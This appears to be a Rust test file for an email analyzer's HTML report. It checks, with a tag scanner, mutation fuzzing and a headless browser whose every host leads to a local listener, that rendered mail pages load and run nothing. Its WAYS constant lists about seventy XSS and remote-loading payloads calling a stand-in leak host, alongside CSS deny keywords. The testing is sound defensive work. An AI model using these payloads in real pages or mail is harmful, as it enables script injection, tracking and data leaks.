//! The page for a browser: nothing of a mail acts in it, loads anything or leads anywhere.
//!
//! What may stand in it is read by a scanner of its own, which knows no more of HTML than
//! the page needs; and a real browser opens it while every name leads to a listener.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use analysis::{Input, Scenes, Settings};
use serde_json::json;
use testkit::mutation::mutate;
use words::{Lang, Words};

use crate::support::settings;

fn kept() -> Settings {
    Settings { scenes: Scenes::Kept, ..settings(&json!({})) }
}

fn page(bytes: &[u8], settings: &Settings, words: &Words) -> String {
    let analysis = analysis::analyze(&Input::new(bytes, "a.eml"), settings);
    [&report::html_head(words), &report::html(&analysis, words), report::HTML_TAIL].concat()
}

fn mail(html: &str) -> Vec<u8> {
    format!(
        "From: a@a.example\nSubject: <script src=//{LEAK}/></script>\nMIME-Version: 1.0\n\
         Content-Type: text/html; charset=utf-8\n\n{html}"
    )
    .into_bytes()
}

/// Every tag of a document: its name and attributes. Fails at what the page never writes.
fn tags(document: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = document;
    while let Some((_, inside)) = rest.split_once('<') {
        let end = tag_end(inside).unwrap_or_else(|| panic!("a tag is not closed: {inside:.80}"));
        let (tag, after) = inside.split_at(end);
        let name: String = tag.chars().take_while(|c| !c.is_whitespace()).collect();
        found.push((name.clone(), attributes(tag.split_at(name.len()).1)));
        rest = after.split_at(1).1;
        // Style sheets hold no tags.
        if name == "style" {
            rest = rest.split_at(rest.find("</style>").expect("closed")).1;
        }
    }
    found
}

fn tag_end(tag: &str) -> Option<usize> {
    let mut is_quoted = false;
    tag.char_indices().find_map(|(at, letter)| {
        is_quoted ^= letter == '"';
        (letter == '>' && !is_quoted).then_some(at)
    })
}

fn attributes(text: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = text.trim();
    while !rest.is_empty() {
        let end = rest.find([' ', '=', '\n']).unwrap_or(rest.len());
        let (name, after) = rest.split_at(end);
        let (value, after) = match after.strip_prefix('=') {
            None => ("", after),
            Some(after) => match after.strip_prefix('"') {
                Some(after) => after.split_once('"').expect("a closed quote"),
                None => after.split_at(after.find([' ', '\n']).unwrap_or(after.len())),
            },
        };
        found.push((name.to_owned(), value.to_owned()));
        rest = after.trim();
    }
    found
}

fn unescaped(text: &str) -> String {
    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"");
    text.replace("&#39;", "'").replace("&amp;", "&")
}

/// Holds for every page, whatever the mail was.
fn check_harmless(page: &str, what: &str) {
    let mut frames = 0;
    for (name, attributes) in tags(page) {
        check_tag(&name, &attributes, what);
        let value = |wanted: &str| attributes.iter().find(|(name, _)| name == wanted);
        if name == "iframe" {
            frames += 1;
            assert_eq!(value("sandbox").map(|(_, value)| value.as_str()), Some(""), "{what}");
            let inner = unescaped(&value("srcdoc").expect("a document").1);
            assert!(inner.contains("default-src 'none'; img-src data:"), "{what}");
            for (name, attributes) in tags(&inner) {
                assert_ne!(name, "iframe", "{what}");
                check_tag(&name, &attributes, what);
            }
        }
    }
    assert!(frames < 100, "{what}");
}

fn check_tag(name: &str, attributes: &[(String, String)], what: &str) {
    let name = name.trim_start_matches('/');
    assert!(TAGS.contains(&name), "{what}: <{name}>");
    for (attribute, value) in attributes {
        assert!(ATTRIBUTES.contains(&attribute.as_str()), "{what}: <{name} {attribute}={value}>");
        let value = unescaped(value).to_lowercase();
        match attribute.as_str() {
            "src" => assert!(value.starts_with("data:image/"), "{what}: {value}"),
            "style" => {
                let words = ["url", "expression", "import", "@", "\\", "position", "<", "behavior"];
                let found = words.iter().find(|word| value.contains(**word));
                assert_eq!(found, None, "{what}: {value}");
            }
            "http-equiv" => assert_eq!(value, "content-security-policy", "{what}"),
            _ => {}
        }
    }
}

#[test]
fn known_ways_out_are_closed() {
    let settings = kept();
    for lang in [Lang::Ja, Lang::En] {
        let words = Words::new(lang);
        for way in WAYS {
            check_harmless(&page(&mail(way), &settings, &words), way);
        }
        check_harmless(&page(&mail(&WAYS.concat()), &settings, &words), "all at once");
    }
}

#[test]
fn no_mail_of_the_corpus_nor_a_mutation_acts() {
    let (settings, words) = (kept(), Words::new(Lang::En));
    let ways = mail(&WAYS.concat());
    for case in ["mail", "attack"].into_iter().flat_map(testkit::cases) {
        check_harmless(&page(&case.bytes, &settings, &words), &case.name);
    }
    for seed in 0..MUTATIONS {
        let other = mail(WAYS[usize::try_from(seed).unwrap() % WAYS.len()]);
        check_harmless(&page(&mutate(seed, &ways, &other), &settings, &words), &seed.to_string());
    }
}

#[test]
fn pages_are_taken_apart_only_when_asked_for() {
    let bytes = mail("<p>x</p>");
    let analyze = |settings: &Settings| analysis::analyze(&Input::new(&bytes, "a.eml"), settings);
    assert!(analyze(&settings(&json!({}))).mails[0].scenes.is_empty());
    assert_eq!(analyze(&kept()).mails[0].scenes.len(), 1);
}

#[test]
fn a_cut_is_told() {
    let limits = json!({"limits": {"scene_pieces": 1}});
    let settings = Settings { scenes: Scenes::Kept, ..settings(&limits) };
    let analysis = analysis::analyze(&Input::new(&mail("<p>a<p>b"), "a.eml"), &settings);
    let told: Vec<_> = analysis.defects.iter().map(|d| d.code.as_str()).collect();
    assert_eq!(told, ["limit-text"]);
}

#[test]
fn a_browser_asks_for_nothing() {
    if Command::new(BROWSER).arg("--version").stdout(Stdio::null()).status().is_err() {
        return testkit::missing(BROWSER);
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.html");
    let control = format!("<iframe sandbox srcdoc='<img src=http://control.{LEAK}/>'></iframe>");
    fs::write(&path, control).unwrap();
    assert_ne!(asked(&path), 0, "the listener is not reached by a page that does ask");
    let words = Words::new(Lang::En);
    fs::write(&path, page(&mail(&WAYS.concat()), &kept(), &words)).unwrap();
    assert_eq!(asked(&path), 0);
    let one_by_one: String = WAYS.iter().map(|way| page(&mail(way), &kept(), &words)).collect();
    fs::write(&path, one_by_one).unwrap();
    assert_eq!(asked(&path), 0);
}

/// How often a browser that shows the page asks the host of [`WAYS`] for something.
fn asked(page: &Path) -> usize {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (is_over, count) = (AtomicBool::new(false), AtomicUsize::new(0));
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !is_over.load(Ordering::Relaxed) {
                let Ok((mut stream, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(5));
                    continue;
                };
                // The name stands in a request and in the first message of TLS alike.
                let mut bytes = [0; 4096];
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let length = stream.read(&mut bytes).unwrap_or(0);
                let is_ours = String::from_utf8_lossy(&bytes[..length]).contains(LEAK);
                count.fetch_add(usize::from(is_ours), Ordering::Relaxed);
                let _ = stream.write_all(b"HTTP/1.0 404 No\r\nContent-Length: 0\r\n\r\n");
            }
        });
        let profile = page.with_extension("profile");
        let status = Command::new(BROWSER)
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            .args([
                "--disable-background-networking",
                "--disable-component-update",
                "--no-first-run",
            ])
            // A frame of a process of its own may not be waited for.
            .args(["--disable-features=IsolateSandboxedIframes", "--virtual-time-budget=2000"])
            .arg("--dump-dom")
            .arg(format!("--user-data-dir={}", profile.display()))
            .arg(format!("--host-resolver-rules=MAP * 127.0.0.1:{port}"))
            .arg(format!("file://{}", page.display()))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        is_over.store(true, Ordering::Relaxed);
        assert!(status.is_ok_and(|status| status.success()), "{BROWSER} failed");
    });
    count.into_inner()
}

const BROWSER: &str = "chromium";
const LEAK: &str = "noroshi-leak.example";
const MUTATIONS: u64 = 400;

const TAGS: &[&str] = &[
    "!doctype",
    "article",
    "b",
    "blockquote",
    "body",
    "br",
    "caption",
    "center",
    "code",
    "dd",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "hr",
    "html",
    "i",
    "iframe",
    "img",
    "li",
    "meta",
    "ol",
    "p",
    "pre",
    "s",
    "section",
    "small",
    "span",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "u",
    "ul",
];

const ATTRIBUTES: &[&str] = &[
    "alt",
    "cellpadding",
    "cellspacing",
    "charset",
    "class",
    "colspan",
    "content",
    "html",
    "http-equiv",
    "lang",
    "name",
    "open",
    "referrerpolicy",
    "rowspan",
    "sandbox",
    "src",
    "srcdoc",
    "style",
    "title",
];

/// Ways by which pages act, load and lead, as they are known since the first web mailers.
const WAYS: &[&str] = &[
    "<script>fetch('http://s1.noroshi-leak.example')</script>",
    "<script src=http://s2.noroshi-leak.example/x.js></script>",
    "<SCRIPT/x src=//s3.noroshi-leak.example></SCRIPT>",
    "<<script>x</script src=http://s4.noroshi-leak.example>",
    "<scr<script>ipt src=http://s5.noroshi-leak.example></script>",
    "<img src=http://i1.noroshi-leak.example/a.png>",
    "<img src='x' onerror=\"new Image().src='http://i2.noroshi-leak.example'\">",
    "<img src=x:x onerror=fetch('http://i3.noroshi-leak.example')//",
    "<img \"\"\"><script src=http://i4.noroshi-leak.example></script>\">",
    "<img srcset='http://i5.noroshi-leak.example/a 2x' sizes=1px lowsrc=http://i6.noroshi-leak.example>",
    "<image href=http://i7.noroshi-leak.example src=http://i8.noroshi-leak.example>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://i9.noroshi-leak.example'/></svg>\">",
    "<img src=\"data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\" alt='\"><script>'>",
    "<picture><source srcset=http://p1.noroshi-leak.example><img></picture>",
    "<body background=http://b1.noroshi-leak.example onload=fetch('http://b2.noroshi-leak.example')>",
    "<table background=http://t1.noroshi-leak.example><td background=//t2.noroshi-leak.example>x",
    "<p style=\"background:url(http://c1.noroshi-leak.example)\">x",
    "<p style=\"background-image:u\\72l('http://c2.noroshi-leak.example')\">x",
    "<p style='color:red;}body{background:url(http://c3.noroshi-leak.example)}'>x",
    "<p style=\"width:expression(fetch('http://c4.noroshi-leak.example'))\">x",
    "<p style=\"list-style:url(http://c5.noroshi-leak.example);cursor:url(//c6.noroshi-leak.example),auto\">x",
    "<p style=\"background:/*x*/ur/**/l(http://c7.noroshi-leak.example)\">x",
    "<p style=\"font-family:'x';src:url(http://c8.noroshi-leak.example)\">x",
    "<p style=\"color:red&quot;&gt;&lt;img src=http://c9.noroshi-leak.example&gt;\">x",
    "<p style=\"-moz-binding:url(http://c10.noroshi-leak.example#x);behavior:url(x)\">x",
    "<p style=\"background:image-set('http://c11.noroshi-leak.example' 1x)\">x",
    "<style>@import 'http://y1.noroshi-leak.example';p{background:url(//y2.noroshi-leak.example)}</style><p>x",
    "<style><!--</style><img src=http://y3.noroshi-leak.example>--></style>",
    "<style>@font-face{font-family:a;src:url(http://y4.noroshi-leak.example)}*{font-family:a}</style>x",
    "<link rel=stylesheet href=http://l1.noroshi-leak.example>",
    "<link rel=dns-prefetch href=//l2.noroshi-leak.example><link rel=preconnect href=http://l3.noroshi-leak.example>",
    "<link rel=icon href=http://l4.noroshi-leak.example><link rel=prefetch href=http://l5.noroshi-leak.example>",
    "<base href=http://a1.noroshi-leak.example/><img src=x.png>",
    "<meta http-equiv=refresh content='0;url=http://m1.noroshi-leak.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<iframe src=http://f1.noroshi-leak.example></iframe>",
    "<iframe srcdoc=\"<img src=http://f2.noroshi-leak.example>\"></iframe>",
    "<frameset><frame src=http://f3.noroshi-leak.example></frameset>",
    "<object data=http://o1.noroshi-leak.example><embed src=http://o2.noroshi-leak.example></object>",
    "<applet code=x codebase=http://o3.noroshi-leak.example></applet><portal src=http://o4.noroshi-leak.example>",
    "<video src=http://v1.noroshi-leak.example poster=http://v2.noroshi-leak.example autoplay></video>",
    "<audio src=http://v3.noroshi-leak.example autoplay><track src=http://v4.noroshi-leak.example default>",
    "<svg><script href=http://g1.noroshi-leak.example /></svg>",
    "<svg onload=fetch('http://g2.noroshi-leak.example')><image href=http://g3.noroshi-leak.example></svg>",
    "<svg><style><img src=http://g4.noroshi-leak.example></style></svg>",
    "<svg><use href=http://g5.noroshi-leak.example#x /><animate onbegin=fetch('http://g6.noroshi-leak.example')></svg>",
    "<math><mtext><table><mglyph><style><img src=http://g7.noroshi-leak.example>",
    "<form action=http://r1.noroshi-leak.example><input type=image src=http://r2.noroshi-leak.example autofocus onfocus=submit()></form>",
    "<form id=x></form><button form=x formaction=javascript:fetch('http://r3.noroshi-leak.example')>x",
    "<input type=text value='\"><img src=http://r4.noroshi-leak.example>'>",
    "<textarea></textarea><img src=http://x1.noroshi-leak.example>",
    "<title></title><img src=http://x2.noroshi-leak.example>",
    "<noscript><p title=\"</noscript><img src=http://x3.noroshi-leak.example onerror=x>\">",
    "<template><img src=http://x4.noroshi-leak.example></template>",
    "<xmp><img src=http://x5.noroshi-leak.example></xmp><plaintext><img src=http://x6.noroshi-leak.example>",
    "<!--><img src=http://x7.noroshi-leak.example>--><!--[if IE]><img src=http://x8.noroshi-leak.example><![endif]-->",
    "<![CDATA[<img src=http://x9.noroshi-leak.example>]]>",
    "</span></body></html><img src=http://x10.noroshi-leak.example>",
    "&lt;img src=http://x11.noroshi-leak.example&gt; &amp;lt;script&amp;gt;",
    "<a href=javascript:fetch('http://h1.noroshi-leak.example')>x</a><a href=\" java\tscript:x\">y</a>",
    "<a href='data:text/html,<script src=http://h2.noroshi-leak.example></script>'>x</a>",
    "<a href=http://h3.noroshi-leak.example ping=http://h4.noroshi-leak.example>x</a>",
    "<a href='http://h5.noroshi-leak.example/\"><img src=http://h6.noroshi-leak.example>'>x</a>",
    "<details open ontoggle=fetch('http://e1.noroshi-leak.example')><marquee onstart=fetch('http://e2.noroshi-leak.example')>",
    "<p onmouseover=x style=position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9>x",
    "<img src=x alt='\u{202e}\" onload=x <script>'>",
    "<p\u{0}style=x><scr\u{0}ipt src=http://n1.noroshi-leak.example></scr\u{0}ipt>",
    "<p title=`><img src=http://n2.noroshi-leak.example>`>",
];
